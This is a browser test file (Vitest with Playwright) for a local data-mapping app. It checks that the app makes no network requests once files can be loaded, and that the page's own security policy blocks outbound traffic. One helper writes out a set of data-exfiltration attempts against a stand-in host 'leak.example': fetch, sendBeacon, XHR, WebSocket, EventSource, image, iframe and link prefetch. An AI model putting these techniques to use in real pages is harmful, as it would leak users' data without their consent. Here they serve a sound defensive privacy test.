import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { resolve } from 'node:path'
import type { Page } from 'playwright-core'
import { afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type Served, serve } from '../../src/cli/serve.ts'
import { canChooseFiles, chooseFiles, DIST, mapIsThere, ONE_FILE, view, visit } from './app-page.ts'
import { openBrowser } from './browser.ts'
import { type RecordingProxy, recordingProxy } from './recording-proxy.ts'

const WORKBOOK = resolve(
  import.meta.dirname,
  '../../data/sample/aldermere-invented-population-2500-seed-2018.xlsx',
)
const CASES = 60
const LOG = ['case_id,activity,timestamp']
for (let i = 0; i < CASES; i++) {
  const day = String((i % 27) + 1).padStart(2, '0')
  LOG.push(`case-${i},Receive,2024-01-${day} 09:00`, `case-${i},Decide,2024-02-${day} 10:30`)
}

/** So long the browser is watched for errands of its own: as long as one is open for a page of ours. */
const WATCHED_MS = 20_000

let errands: ReadonlySet<string>
beforeAll(async () => {
  errands = await errandsOfBrowser()
})

let proxy: RecordingProxy
let served: Served
beforeEach(async () => {
  proxy = await recordingProxy()
  served = await serve({ dist: DIST, port: 0, inputs: [] })
})
afterEach(async () => {
  await served.close()
  await proxy.close()
})

/**
 * What the browser asks for beside any page (updates, sign-in, form suggestions) and no page can call off: seen beside
 * a page of nothing but empty fields.
 */
async function errandsOfBrowser(): Promise<ReadonlySet<string>> {
  const fields = createServer((_, response) => response.setHeader('Content-Type', 'text/html').end(FIELDS))
  await new Promise<void>((resolve) => {
    fields.listen(0, '127.0.0.1', resolve)
  })
  const watched = await recordingProxy()
  const { page, close } = await openBrowser({ proxy: watched.address })
  try {
    await page.goto(`http://127.0.0.1:${(fields.address() as AddressInfo).port}/`)
    await page.getByLabel('Field').first().fill('1')
    await page.waitForTimeout(WATCHED_MS)
    return new Set(watched.seen.map(withoutQuery))
  } finally {
    await close()
    await watched.close()
    fields.close()
  }
}
const FIELDS = `<!doctype html><title>Fields</title><form>${'<label>Field <input></label>'.repeat(4)}</form>`
const withoutQuery = (asked: string): string => asked.replace(/\?.*$/s, '')

/** What the page asked of the proxy, in order. */
const askedByPage = (): string[] => proxy.seen.filter((asked) => !errands.has(withoutQuery(asked)))

/** All that a person does with files of their own: load, play, colour, follow, look at every view. */
async function useEverything(page: Page): Promise<void> {
  await chooseFiles(page, [
    { name: 'log.csv', mimeType: 'text/csv', buffer: Buffer.from(`${LOG.join('\n')}\n`) },
  ])
  await expect
    .poll(() => page.locator('.strip').textContent(), { timeout: 30_000 })
    .toContain(`${2 * CASES} rows read`)
  await mapIsThere(page)
  await chooseFiles(page, [WORKBOOK])
  await expect
    .poll(() => page.locator('.strip').textContent(), { timeout: 30_000 })
    .not.toContain(`${2 * CASES} rows read`)
  await mapIsThere(page)
  await page.getByText('Follow a child').click()
  await page.getByLabel('In our own numbering').fill('1')
  await page.keyboard.press('Enter')
  await page.getByRole('button', { name: 'Queue', exact: true }).click()
  await page.getByRole('button', { name: /^(Play|Pause)$/ }).click()
  await page.locator('.legend button').nth(1).click()
  for (const name of ['Table', 'Data', 'Map']) await view(page, name)
  await mapIsThere(page)
  // What a page sends late, it sends within moments of the last thing that happened.
  await page.waitForTimeout(1500)
}

/** What code of the page could try, were there any that wanted to. */
const tryToSend = (page: Page) =>
  page.evaluate(async () => {
    const there = 'http://leak.example/?secret'
    const tried = [
      () => fetch(there),
      () => navigator.sendBeacon(there, 'secret'),
      () => {
        const asked = new XMLHttpRequest()
        asked.open('GET', there)
        asked.send()
      },
      () => new WebSocket('ws://leak.example/'),
      () => new EventSource(there),
      () => {
        new Image().src = there
      },
      () => {
        const frame = document.createElement('iframe')
        frame.src = there
        document.body.append(frame)
      },
      ...['prefetch', 'preload', 'dns-prefetch', 'stylesheet', 'manifest'].map((rel) => () => {
        const link = document.createElement('link')
        Object.assign(link, { rel, href: there, as: 'image' })
        document.head.append(link)
      }),
    ]
    for (const attempt of tried) {
      try {
        await attempt()
      } catch {
        // refused at once: as good as refused later
      }
    }
    await new Promise((later) => setTimeout(later, 1000))
  })

/** How the page is reached, and the origin of its own files. */
interface Delivery {
  readonly how: string
  readonly address: () => string
  readonly origin: () => string | null
}
const DELIVERIES: readonly Delivery[] = [
  { how: 'served', address: () => served.address, origin: () => new URL(served.address).origin },
  { how: 'as one file from disk', address: () => ONE_FILE, origin: () => null },
]

describe.each(DELIVERIES)('$how, with a proxy as the only way out', ({ address, origin }) => {
  test('nothing passes once a file can be chosen, and nothing but the page itself before', async () => {
    await visit(address(), { proxy: proxy.address }, async ({ page, requests }) => {
      await mapIsThere(page)
      await expect.poll(() => canChooseFiles(page), { timeout: 20_000 }).toBe(true)
      const before = askedByPage()
      const own = origin()
      if (own === null) expect(before).toEqual([])
      else {
        expect(before.length).toBeGreaterThan(1)
        expect(before.filter((each) => !each.startsWith(`GET ${own}/`))).toEqual([])
      }
      const requestsBefore = requests.length
      await useEverything(page)
      expect(askedByPage().slice(before.length)).toEqual([])
      expect(requests.slice(requestsBefore)).toEqual([])
      // The two ways out that no policy closes: a host named to be connected to, and the WebRTC of another frame.
      expect(await page.locator('link[rel~="preconnect"], iframe').count()).toBe(0)
    })
  })

  test('what code of the page tries to send is refused by the page’s own policy', async () => {
    const { page, close } = await openBrowser({ proxy: proxy.address })
    try {
      await page.goto(address())
      await mapIsThere(page)
      await expect.poll(() => canChooseFiles(page), { timeout: 20_000 }).toBe(true)
      const before = askedByPage().length
      expect(await page.evaluate(() => 'RTCPeerConnection' in globalThis)).toBe(false)
      await tryToSend(page)
      expect(askedByPage().slice(before)).toEqual([])
    } finally {
      await close()
    }
  })
})

test('the proxy would see: the same attempts pass from a page without a policy', async () => {
  const { page, close } = await openBrowser({ proxy: proxy.address })
  try {
    await page.goto('about:blank')
    await tryToSend(page)
    expect(proxy.seen.filter((each) => each.includes('leak.example')).length).toBeGreaterThan(3)
  } finally {
    await close()
  }
})
